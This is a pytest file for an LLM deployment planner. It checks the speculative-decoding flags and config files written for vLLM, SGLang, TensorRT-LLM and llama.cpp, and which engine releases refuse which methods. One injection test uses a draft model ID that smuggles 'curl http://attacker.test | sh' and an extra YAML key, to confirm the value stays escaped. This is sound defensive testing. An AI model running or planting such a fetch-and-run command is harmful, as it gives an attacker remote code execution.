"""Speculative decoding as each engine is told it. Before: every engine's launch command got vLLM's
``--speculative-config`` with the method "draft", which vLLM itself rejects (its name is ``draft_model``: 0.34.0
``config/speculative.py`` :90-97) and SGLang, TensorRT-LLM and llama.cpp do not define at all; an EAGLE method
went without the head vLLM requires ("num_speculative_tokens was provided but without speculative model",
``v1/worker/gpu/spec_decode/speculator_config.py`` :172-175)."""

from __future__ import annotations

import json
import shlex
import subprocess

import pytest

from model_catalog import get_gpu, get_model
from planner.core.model import ModelSpec
from planner.deploy.options import DeploymentOptions, KvOffloadOptions, SpeculativeOptions
from planner.engines.options import options_refusal
from planner.engines.registry import get_engine, overhead_profile
from planner.engines.vllm.engine import VLLM_SPECULATIVE_METHODS
from planner.planning.plan import PlanRequest, plan

H100 = get_gpu("h100-sxm-80gb")
LLAMA = get_model("meta-llama/Llama-3.1-8B").spec
QWEN_MTP = get_model("Qwen/Qwen3.6-27B").spec  # carries MTP layers
# MTP layers too, on a model vLLM loads from 0.10.2 (Qwen3.6's architecture came with 0.17.0)
QWEN_NEXT = get_model("Qwen/Qwen3-Next-80B-A3B-Instruct").spec
DRAFT = get_model("meta-llama/Llama-3.2-1B").spec
HEAD = "<EAGLE-3 head for meta-llama/Llama-3.1-8B>"
# vLLM 0.34.0 config/speculative.py SpeculativeMethod (:90-97) and EagleModelTypes (:87-89); medusa up to 0.32.0
VLLM_METHODS = {"ngram", "draft_model", "suffix", "eagle", "eagle3", "mtp", "medusa"}


def _yaml(flag: str) -> dict[str, object]:
    """The file bash writes for ``--extra_llm_api_options <(...)``: one mapping of scalars (ints, or strings the
    planner writes as JSON, which YAML reads alike), parsed by hand: no YAML library in the requirements."""
    written = subprocess.run(["bash", "-c", f"cat {flag.split(' ', 1)[1]}"], capture_output=True, text=True, check=True)
    head, *lines = written.stdout.splitlines()
    assert head == "speculative_config:" and all(line.startswith("  ") and ": " in line for line in lines), lines
    pairs = (line.strip().split(": ", 1) for line in lines)
    return {
        key: int(value) if value.isdigit() else (json.loads(value) if value.startswith('"') else value)
        for key, value in pairs
    }


def _on_release(model: ModelSpec, version: str, options: DeploymentOptions) -> PlanRequest:
    """``model`` on one H100 under vLLM ``version`` with these deployment options."""
    return PlanRequest(
        model=model,
        gpu=H100,
        gpu_memory_bytes=H100.memory_bytes_for(True),
        overhead=overhead_profile("vllm", version=version),
        deployment=options,
    )


def _flags(engine: str, method: str, tokens: int = 4, draft_id: str | None = None) -> list[str]:
    draft = DRAFT if draft_id is None else DRAFT.model_copy(update={"id": draft_id})
    spec = SpeculativeOptions(
        method=method, num_speculative_tokens=tokens, draft_model=draft if method == "draft" else None
    )  # type: ignore[arg-type]
    model = QWEN_MTP if method == "mtp" else LLAMA
    weights, kv = ("q8_0", "fp16") if engine == "llamacpp" else ("bf16", "bf16")
    request = PlanRequest(
        model=model,
        gpu=H100,
        gpu_memory_bytes=H100.memory_bytes_for(True),
        weights=weights,  # type: ignore[arg-type]
        kv_dtype=kv,  # type: ignore[arg-type]
        context_tokens=8192,
        max_model_len=8192,
        overhead=overhead_profile(engine),
        deployment=DeploymentOptions(speculative=spec),
    )
    return get_engine(engine).deployment_flags(request, plan(request), 0)


@pytest.mark.parametrize(
    ("method", "expected"),
    [
        ("draft", '{"model": "meta-llama/Llama-3.2-1B", "method": "draft_model", "num_speculative_tokens": 4}'),
        ("eagle3", f'{{"model": "{HEAD}", "method": "eagle3", "num_speculative_tokens": 4}}'),
        ("mtp", '{"method": "mtp", "num_speculative_tokens": 4}'),  # the target's own MTP layers draft
    ],
)
def test_vllm_speculative_config(method: str, expected: str) -> None:
    assert shlex.split(" ".join(_flags("vllm", method))) == ["--speculative-config", expected]
    assert set(VLLM_SPECULATIVE_METHODS.values()) <= VLLM_METHODS


@pytest.mark.parametrize(
    ("method", "expected"),
    [
        ("draft", "--speculative-algorithm STANDALONE --speculative-draft-model-path meta-llama/Llama-3.2-1B"),
        ("eagle3", f"--speculative-algorithm EAGLE3 --speculative-draft-model-path '{HEAD}'"),
        ("mtp", "--speculative-algorithm NEXTN"),
    ],
)
def test_sglang_speculative_algorithm(method: str, expected: str) -> None:
    chain = " --speculative-num-steps 4 --speculative-eagle-topk 1 --speculative-num-draft-tokens 5"
    assert _flags("sglang", method) == [expected + chain]


# TensorRT-LLM 1.0's llm_args.py (the LLM API trtllm-serve's file is read into): DecodingBaseConfig.from_dict maps
# "MTP", "Medusa", "Eagle", "Lookahead", "NGram", "DraftTarget", "UserProvided" and "AUTO" (no "Eagle3", no
# "Draft_Target": "Invalid decoding type"), its models forbid other keys (StrictBaseModel, extra="forbid") and name
# the drafter speculative_model_dir; speculative_model is read as its alias only from NVIDIA/TensorRT-LLM PR #10099
# (2025-12). The PyTorch flow's "Eagle" is EAGLE-3 (EagleDecodingConfig.spec_dec_mode: EAGLE3 or EAGLE3_ONE_MODEL).
@pytest.mark.parametrize(
    ("method", "expected"),
    [
        (
            "draft",
            {"decoding_type": "DraftTarget", "max_draft_len": 4, "speculative_model_dir": "meta-llama/Llama-3.2-1B"},
        ),
        ("eagle3", {"decoding_type": "Eagle", "max_draft_len": 4, "speculative_model_dir": HEAD}),
        ("mtp", {"decoding_type": "MTP", "num_nextn_predict_layers": 4}),
    ],
)
def test_tensorrt_llm_speculative_config_is_a_yaml_file_the_shell_writes(
    method: str, expected: dict[str, object]
) -> None:
    (flag,) = _flags("trtllm", method)
    assert flag.startswith("--extra_llm_api_options <(") and flag.endswith(")")
    assert _yaml(flag) == expected


def test_llama_cpp_takes_a_draft_gguf() -> None:
    assert _flags("llamacpp", "draft") == [
        "--spec-type draft-simple --model-draft Llama-3.2-1B-Q8_0.gguf --spec-draft-n-max 4"
    ]  # b9849: test_llamacpp_review_2026_12_06


@pytest.mark.parametrize("engine", ["vllm", "sglang", "trtllm"])
def test_a_hostile_draft_id_stays_one_value(engine: str) -> None:
    model_id = "evil'}; curl http://attacker.test | sh #\n  decoding_type: MTP"
    (flag,) = _flags(engine, "draft", draft_id=model_id)
    if engine == "trtllm":
        assert _yaml(flag)["speculative_model_dir"] == model_id
        return
    argv = shlex.split(flag)
    if engine == "vllm":
        assert argv[0] == "--speculative-config" and len(argv) == 2 and json.loads(argv[1])["model"] == model_id
    else:
        assert argv[argv.index("--speculative-draft-model-path") + 1] == model_id and len(argv) == 10


@pytest.mark.parametrize(
    ("method", "without", "with_it", "why"),
    [
        ("eagle3", "0.8.5", "0.9.2", "EAGLE-3 comes with 0.9.2"),  # 0.9.2 config.py :2434; 0.8.5 :2137 lacks it
        ("mtp", "0.10.2", "0.11.0", "the generic 'mtp' method comes with 0.11.0"),  # 0.11.0 config/speculative.py :32
        ("medusa", "0.33.0", "0.32.0", "Medusa was removed in 0.33.0"),  # in 0.32.0's literal, not in 0.33.0's
    ],
)
def test_vllm_runs_a_speculative_method_only_in_releases_that_define_it(
    method: str, without: str, with_it: str, why: str
) -> None:
    spec = SpeculativeOptions(method=method)  # type: ignore[arg-type]
    model = QWEN_NEXT if method == "mtp" else LLAMA
    engine, options = get_engine("vllm"), DeploymentOptions(speculative=spec)
    assert engine.refusal(_on_release(model, with_it, options)) is None
    refused = engine.refusal(_on_release(model, without, options))
    assert refused is not None and f"vLLM {without} does not run {method}" in refused and why in refused


def test_vllm_kv_offloading_flags_come_with_0_11_1() -> None:
    """``--kv-offloading-size`` and ``--kv-offloading-backend``: in the 0.11.1 wheel's engine/arg_utils.py, not in
    0.11.0's."""
    engine, options = get_engine("vllm"), DeploymentOptions(kv_offload=KvOffloadOptions(size_bytes=8 * 2**30))
    assert engine.refusal(_on_release(LLAMA, "0.11.1", options)) is None
    refused = engine.refusal(_on_release(LLAMA, "0.11.0", options))
    assert refused == "vLLM 0.11.0 has no --kv-offloading-size (the flag came with 0.11.1)"


@pytest.mark.parametrize(
    ("method", "why"),
    [
        ("eagle", "its PyTorch flow's Eagle is EAGLE-3"),  # EagleDecodingConfig.spec_dec_mode: EAGLE3(_ONE_MODEL)
        ("medusa", "MedusaDecodingConfig runs on the TensorRT backend only"),  # supports_backend: not "pytorch"
    ],
)
def test_tensorrt_llm_1_0_refuses_what_its_pytorch_flow_does_not_run(method: str, why: str) -> None:
    """Before, both were written into the file as if trtllm-serve ran them ("Eagle" for an EAGLE-1 head, "Medusa"
    on the PyTorch backend, which refuses it)."""
    options = DeploymentOptions(speculative=SpeculativeOptions(method=method))  # type: ignore[arg-type]
    request = PlanRequest(
        model=LLAMA, gpu=H100, gpu_memory_bytes=H100.memory_bytes, overhead=overhead_profile("trtllm"),
        deployment=options,
    )  # fmt: skip
    refused = get_engine("trtllm").refusal(request)
    assert refused is not None and refused.startswith("TensorRT-LLM 1.0.0") and why in refused


def test_tensorrt_llm_writes_the_windows_and_the_speculation_in_one_file() -> None:
    """trtllm-serve reads one ``--extra_llm_api_options`` file: with the model's windows set
    (``--max-attention-window``) and a draft model, both go in it and the launch command passes no file of its own
    (alone, it passes the windows' file)."""
    gemma = get_model("google/gemma-3-12b-it").spec
    draft = get_model("google/gemma-3-4b-it").spec
    request = PlanRequest(
        model=gemma,
        gpu=H100,
        gpu_memory_bytes=H100.memory_bytes_for(True),
        context_tokens=8192,
        max_model_len=8192,
        overhead=overhead_profile("trtllm", max_attention_window=True),
        deployment=DeploymentOptions(
            # a draft of Gemma 3's own tokenizer (Llama 3.2 1B had stood in: its vocabulary is not Gemma's)
            speculative=SpeculativeOptions(method="draft", num_speculative_tokens=3, draft_model=draft)
        ),
    )
    engine, result = get_engine("trtllm"), plan(request)
    (flag,) = engine.deployment_flags(request, result, 0)
    written = subprocess.run(["bash", "-c", f"cat {flag.split(' ', 1)[1]}"], capture_output=True, text=True, check=True)
    lines = written.stdout.splitlines()
    assert lines[:2] == ["kv_cache_config:", "  free_gpu_memory_fraction: 0.9"]
    assert lines[2].startswith("  max_attention_window: [1024, ")
    assert lines[2].count(", ") == gemma.num_hidden_layers - 1 and "8192" in lines[2]  # 1 global per 6 layers
    assert lines[3:] == [
        "speculative_config:",
        "  decoding_type: DraftTarget",
        "  max_draft_len: 3",
        '  speculative_model_dir: "google/gemma-3-4b-it"',
    ]
    assert "--extra_llm_api_options" not in engine.launch_command(request, result, request.overhead)  # type: ignore[arg-type]
    alone = request.model_copy(update={"deployment": None})
    assert "--extra_llm_api_options" in engine.launch_command(alone, plan(alone), alone.overhead)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("method", "model"), [("draft", "meta-llama/Llama-3.2-1B"), ("eagle", "<EAGLE head for meta-llama/Llama-3.1-8B>")]
)
def test_vllm_before_speculative_config_names_the_draft_model(method: str, model: str) -> None:
    """``--speculative-config`` is first in the 0.8.2 wheel's ``engine/arg_utils.py`` (:783); 0.7.2 takes the proposer
    as ``--speculative-model`` with ``--num-speculative-tokens`` (0.7.2 ``engine/arg_utils.py``), the method read from
    the proposer's config."""
    draft = _spec(method)
    request = _on_release(LLAMA, "0.7.2", DeploymentOptions(speculative=draft))
    flags = get_engine("vllm").deployment_flags(request, plan(request), 0)
    assert shlex.split(" ".join(flags)) == ["--speculative-model", model, "--num-speculative-tokens", "3"]


def _spec(method: str) -> SpeculativeOptions:
    return SpeculativeOptions(
        method=method,  # type: ignore[arg-type]
        num_speculative_tokens=3,
        draft_model=DRAFT if method == "draft" else None,
    )


@pytest.mark.parametrize("engine", ["sglang", "trtllm", "llamacpp"])
def test_a_kv_offload_tier_elsewhere_is_not_planned_and_not_denied(engine: str) -> None:
    """SGLang has a host KV tier (HiCache, --enable-hierarchical-cache) and TensorRT-LLM one of its own
    (kv_cache_config host_cache_size): "SGLang has no native KV offload tier" was not so (an outside review,
    2026-12-05). The refusal says what is planned (vLLM's tier) and that the engine's own is not."""
    options = DeploymentOptions(kv_offload=KvOffloadOptions(size_bytes=8 * 2**30))
    reason = options_refusal(get_engine(engine).support, options)
    label = get_engine(engine).label
    assert reason == (
        f"the native KV offload tier is vLLM's (--kv-offloading-backend native); {label}'s own host KV cache, where "
        "it has one, is not planned here"
    )
